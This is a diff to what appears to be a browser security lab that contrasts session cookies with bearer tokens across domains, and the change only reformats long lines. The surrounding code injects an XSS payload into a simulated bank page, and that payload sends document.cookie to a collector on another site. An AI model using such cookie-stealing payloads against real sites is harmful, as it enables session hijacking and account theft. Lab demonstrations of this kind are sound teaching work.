@@ -73,7 +73,8 @@ class CrossDomainResult:
 
     def __str__(self) -> str:
         return "\n".join([
-            f"session cookie sent cross-domain:  {self.cookie_sent} {list(self.cookie_reasons)} -> {self.cookie_status}",
+            f"session cookie sent cross-domain:  {self.cookie_sent} {list(self.cookie_reasons)} "
+            f"-> {self.cookie_status}",
             f"Bearer token sent cross-domain:    True -> {self.bearer_status}",
         ])
 
@@ -158,7 +159,8 @@ def run_xss(browser: Browser) -> XssResult:
             collector = cookie_lab.url(OTHER_SITE, "/lab/collect")
             tab.goto(cookie_lab.url(BANK, injected(
                 "fetch('/api/profile', {credentials: 'same-origin'}).then(r => "
-                f"new Image().src = '{collector}?cookie=' + encodeURIComponent(document.cookie) + '&status=' + r.status)")))
+                f"new Image().src = '{collector}?cookie=' + encodeURIComponent(document.cookie) "
+                "+ '&status=' + r.status)")))
             cookie_lab.log.wait_for(lambda: bool(cookie_lab.log.stolen), WAIT)
             seen = cookie_lab.log.stolen[0] if cookie_lab.log.stolen else {}
         finally:
